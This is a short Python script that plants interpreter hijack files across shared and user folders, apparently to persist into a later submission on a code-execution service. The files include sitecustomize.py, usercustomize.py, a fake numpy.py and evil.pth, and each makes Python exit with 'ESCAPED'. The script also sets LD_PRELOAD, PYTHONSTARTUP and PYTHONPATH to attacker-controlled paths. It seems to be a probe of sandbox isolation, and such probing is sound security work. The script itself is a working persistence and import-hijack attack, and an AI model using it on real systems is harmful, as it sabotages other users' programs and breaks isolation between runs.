"""Leaves start-up files, modules and settings for the Python of the next submission."""

import os
import pathlib
import site

folders = {os.getcwd(), "/tmp", "/dev/shm", site.getusersitepackages(), os.path.expanduser("~"), "/tmp/ipython"}
for folder in folders:
    for name in ("usercustomize.py", "sitecustomize.py", "numpy.py", "startup/00.py", "evil.pth", ".pythonrc"):
        try:
            path = pathlib.Path(folder, name)
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text("raise SystemExit('ESCAPED')")
        except OSError:
            pass
os.environ.update(PYTHONSTARTUP="/tmp/usercustomize.py", LD_PRELOAD="/tmp/evil.so", PYTHONPATH="/tmp")
